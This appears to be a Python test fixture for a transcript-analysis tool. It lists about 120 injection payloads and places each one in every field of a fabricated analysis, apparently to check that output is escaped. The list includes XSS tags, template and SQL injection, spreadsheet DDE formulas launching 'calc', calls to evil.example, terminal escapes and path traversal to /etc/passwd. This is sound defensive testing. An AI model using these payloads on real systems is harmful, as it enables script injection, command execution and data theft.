"""Text that tries to be more than text: 120 payloads for pages, tables, terminals and spreadsheets, and an analysis
that has them everywhere a document's words can go.
"""

from __future__ import annotations

from decimal import Decimal

from nlp.records import (
    Amount,
    Analysis,
    Claim,
    Comment,
    Coverage,
    Document,
    Exchange,
    Finding,
    Pair,
    Paragraph,
    Part,
    Repair,
    Run,
    Sentence,
    Span,
    Tag,
    Turn,
)

_HTML = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<!--<script>", "-->", "]]>", "<![CDATA[x]]>",
    '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>", "<img src=//evil.example/x.png>", "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<style>*{display:none}</style>", "<form action=//evil.example><input name=q>",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<object data=data:text/html,x>", "<embed src=x>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<textarea></textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;", "\\u003cscript\\u003e", "<scr<script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)", "` onclick=alert(1) `", "x\" style=\"background:url(//evil.example)", "<p id=data>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{0}", "%s%n", "{n}", "__proto__",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "[x]: //evil.example", "<http://evil.example>", "http://evil.example/x",
    "www.evil.example", "| a | b |", "# heading", "```\ncode", "* item\n* item", "1. one", "> quote", "~~gone~~", "$x^2$", "@somebody",
    "- [ ] task", "---", "a\n===", "\\*", "![](data:text/html,x)",
)  # fmt: skip
_SHEETS = (
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=HYPERLINK(\"//evil.example\",\"x\")", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=IMPORTXML(\"//evil.example\",\"x\")", "x;=1+1", "x,=1+1", "x\t=1+1", "=DDE(\"cmd\";\"x\")",
    "'=1+1", "\"=1+1", " =1+1", "=WEBSERVICE(\"//evil.example\")", "+cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", "\x00=1+1",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31mred", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b]0;title\x07", "\x1b[2J", "\x9b31m", "\x07", "a\rb", "\x1b[6n", "\b\b\b", "[bold]rich[/bold]",
)  # fmt: skip
_INVISIBLE = (
    "\u202e9.1%\u202c", "\u2066x\u2069", "a\u200bb", "\u200ex", "\u061cx", "\ufeffx", "soft\u00adhyphen", "\ud800", "\U000e0041", "\u2028x\u2029",
)  # fmt: skip
_PATHS = ("../../etc/passwd", "C:\\Windows\\x", "file:///etc/passwd", "'; DROP TABLE x; --", "con.txt")
PAYLOADS = (*_HTML, *_TEMPLATES, *_MARKDOWN, *_SHEETS, *_TERMINAL, *_INVISIBLE, *_PATHS)


def a_hostile_analysis() -> Analysis:
    """Every payload as a document, paragraph, speaker, firm, heading, segment, message, formula, repair and decision."""
    documents, paragraphs, sentences, turns, claims, findings, exchanges, comments, tags = (
        [],
        [],
        [],
        [],
        [],
        [],
        [],
        [],
        [],
    )
    for at, bad in enumerate(PAYLOADS):
        text = f"{bad} 5% {bad}"
        start = len(bad) + 1
        name = f"d{at}"
        documents.append(Document(id=name, name=bad, text=text, kind="transcript", company=bad, period=bad, digest=bad))
        paragraphs.append(
            Paragraph(
                id=f"p{at}", document_id=name, start=0, end=len(text), language="en", kind="speech", on_behalf_of=bad
            )
        )
        sentences.append(
            Sentence(
                id=f"s{at}",
                document_id=name,
                paragraph_id=f"p{at}",
                start=0,
                end=len(text),
                language="en",
                turn_id=f"t{at}",
            )
        )
        turns.append(
            Turn(
                id=f"t{at}",
                document_id=name,
                start=0,
                end=len(text),
                speaker=bad,
                label=bad,
                role="analyst",
                title=bad,
                firm=bad,
                paragraphs=(f"p{at}",),
            )
        )
        amount = Amount(
            start=start,
            end=start + 2,
            low=Decimal(5),
            high=Decimal(5),
            unit="percent",
            kind="percent",
            half_step=Decimal("0.5"),
        )
        claims.append(
            Claim(
                id=f"c{at}", document_id=name, start=start, end=start + 2, language="en", amount=amount, metric=f"other:{bad}", surface=bad, segment=bad,
                period=bad, definition=bad, basis=bad, speaker=bad, turn_id=f"t{at}", paragraph_id=f"p{at}", sentence_id=f"s{at}", modality="reported",
            )
        )  # fmt: skip
        findings.append(
            Finding(
                code=f"A{at}", verdict="contradicted", severity="error", message=bad, origin=bad, formula=bad, claims=(f"c{at}",),
                evidence=(Span(document_id=name, start=0, end=len(text)),), repairs=(Repair(value=Decimal(1), text=bad, residual=bad),),
                fingerprint=f"t-{at}", accepted=bad,
            )
        )  # fmt: skip
        part = Part(document_id=name, start=0, end=len(text), status="partly", missing=(bad,))
        exchanges.append(
            Exchange(
                id=f"x{at}",
                document_id=name,
                analyst=bad,
                firm=bad,
                turns=(f"t{at}",),
                pairs=(Pair(question_turns=(f"t{at}",), answer_turns=(), parts=(part,)),),
            )
        )
        comments.append(
            Comment(
                id=f"l{at}",
                document_id=name,
                number=at,
                heading=bad,
                start=0,
                end=len(text),
                requests=(Span(document_id=name, start=0, end=len(text)),),
            )
        )
        tags.append(Tag(target_id=f"t{at}", kind="topic", label="results", score=0.5, by="lexicon", words=(bad,)))
    coverage = tuple(
        Coverage(
            document_id=f"d{at}",
            language="en",
            amounts=1,
            verified=0,
            rounding=0,
            exceptions=1,
            not_comparable=0,
            unchecked=0,
        )
        for at in range(len(PAYLOADS))
    )
    run = Run(version="0", options="0", inputs=tuple((bad, bad) for bad in PAYLOADS), could_not_tie=" ".join(PAYLOADS))
    return Analysis(
        run=run, documents=tuple(documents), paragraphs=tuple(paragraphs), sentences=tuple(sentences), turns=tuple(turns),
        claims=tuple(claims), findings=tuple(findings), exchanges=tuple(exchanges), comments=tuple(comments), tags=tuple(tags),
        coverage=coverage,
    )  # fmt: skip
